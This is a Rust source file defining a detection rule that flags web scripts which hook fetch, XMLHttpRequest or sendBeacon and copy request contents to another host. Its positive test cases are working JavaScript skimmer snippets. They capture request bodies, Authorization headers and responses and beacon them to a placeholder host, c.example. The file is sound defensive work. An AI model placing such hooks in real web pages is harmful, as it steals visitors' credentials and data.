//! `requests-copied-abroad`.

use crate::facts::Atom;
use crate::lex::Op;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "requests-copied-abroad",
    description: "The script replaces how this page sends requests and copies them to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::HookedSentAbroad])],
    within: 0,
    only_if: Some(copies_contents),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var b=navigator.sendBeacon;navigator.sendBeacon=function(u,d){new Image().src='https://c.example/p?'+encodeURIComponent(d);return b.call(navigator,u,d)}",
            "const own=XMLHttpRequest.prototype.setRequestHeader;XMLHttpRequest.prototype.setRequestHeader=function(k,v){if(k.toLowerCase()=='authorization')navigator.sendBeacon('https://c.example/a',v);return own.apply(this,arguments)}",
            "(function XMLHttpRequest(){})();{class A{}function XMLHttpRequest(){}}if(0)var XMLHttpRequest=function(){};var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
            "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
            "const f=window.fetch;window.fetch=function(...a){f('https://c.example/x');log(a);return f.apply(this,a)};function log(a){navigator.sendBeacon('https://c.example/l',JSON.stringify(a))}",
            "const f=window.fetch;window.fetch=(...a)=>f(...a).then(r=>{r.clone().json().then(j=>navigator.sendBeacon('https://c.example/p',JSON.stringify(j)));return r})",
            "var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.addEventListener('load',function(){navigator.sendBeacon('https://c.example/p',this.responseText)});return s.apply(this,arguments)}",
        ],
        without: &[
            "var b=navigator.sendBeacon;navigator.sendBeacon=function(u,d){n++;return b.call(navigator,u,d)};setInterval(()=>fetch('https://m.example/n',{method:'POST',body:String(n)}),9e3)",
            "!function(w){var f=w.fetch,s=XMLHttpRequest.prototype.send,q=[];w.fetch=function(u,o){q.push({m:(o||{}).method,p:u});return f.apply(this,arguments)};XMLHttpRequest.prototype.send=function(b){var x=this;x.addEventListener('loadend',function(){q.push(x.status)});return s.apply(x,arguments)};setInterval(function(){navigator.sendBeacon('https://m.example/b',JSON.stringify(q))},9e3)}(window)",
            "const f=window.fetch;window.fetch=(...a)=>f(...a).then(r=>{r.clone().text().then(t=>navigator.sendBeacon('https://m.example/s',String(t.length)));return r})",
            "var Q=function(){function e(){this.queue=[]}return e.prototype.send=function(t,n){return fetch('https://m.example/batch',{method:'POST',body:JSON.stringify(t)})},e}()",
            "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){this.t=Date.now();return o.apply(this,arguments)};navigator.sendBeacon('https://m.example/t',timing)",
            r#"const f=window.fetch,c=[];window.fetch=async function(i,o){const t=Date.now(),b={url:typeof i==='string'?i:i.url};try{const r=await f.call(this,i,o);b.status=r.status;return r}finally{b.ms=Date.now()-t;c.push(b)}};function report(e){f('https://in.trail.example/e',{method:'POST',body:JSON.stringify({m:e.message,crumbs:c})})}"#,
        ],
    },
};

/// Whether what a request carries or answers is read: its body or heads. How long a request to which address takes is what those want
/// to know who run a site.
fn copies_contents(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 160);
    near.words(&["body", "headers", "responseText", "arguments", "entries"]).any(|at| {
        near.kind(at) != Some(Kind::Key) && !(near.word(at) == "arguments" && near.is(at + 1, b')'))
    }) || near.has_word(&["setRequestHeader", "clone"])
        || near.words(&["send"]).any(|at| near.before(at, 1) == "prototype" && looks_at_body(near, at))
        || near.words(&["sendBeacon"]).any(|at| near.before(at, 1) == "navigator" && looks_at_body(near, at))
        || hands_all_on(near)
}

/// Whether what takes the place of `send` or `sendBeacon` looks at what it is given, and does not only hand it on:
/// `send = function (body) { own.call(this, body) }` may count requests.
fn looks_at_body(near: Near<'_>, send: usize) -> bool {
    if !near.is(send + 1, b'=') {
        return false;
    }
    let Some(body) = near.function_in(send + 2..send + 4) else { return true };
    // `sendBeacon(address, body)`
    let has_address = near.word(send) == "sendBeacon";
    let given = (send + 3..body.start)
        .filter(|at| near.kind(*at) == Some(Kind::Name) && (near.is(at + 1, b')') || near.is(at + 1, b',')))
        .nth(usize::from(has_address));
    let handed_on =
        |at: usize| (at.saturating_sub(6)..at).any(|at| matches!(near.word(at), "apply" | "call"));
    let inside = near.among(body);
    inside.has_word(&["arguments"]) && given.is_none()
        || given.is_some_and(|given| {
            let is_given =
                |at: &usize| near.kind(*at) == Some(Kind::Name) && near.word(*at) == near.word(given);
            inside.places().filter(is_given).any(|at| !handed_on(at))
        })
}

/// Whether all that a function was called with is handed to another one than the one it stands for: `(...all) => log(all)`.
fn hands_all_on(near: Near<'_>) -> bool {
    let rest = |at: &usize| near.item(*at).is_some_and(|item| item.op == Op::of(b"..."));
    near.places().filter(rest).any(|rest| {
        let name = near.word(rest + 1);
        near.places().any(|at| {
            at > rest + 1
                && near.kind(at) == Some(Kind::Name)
                && near.word(at) == name
                && near.is(at + 1, b')')
                && (near.is(at.wrapping_sub(1), b'(') || near.is(at.wrapping_sub(1), b','))
                && !(at.saturating_sub(4)..at).any(|at| matches!(near.word(at), "apply" | "call"))
        })
    })
}
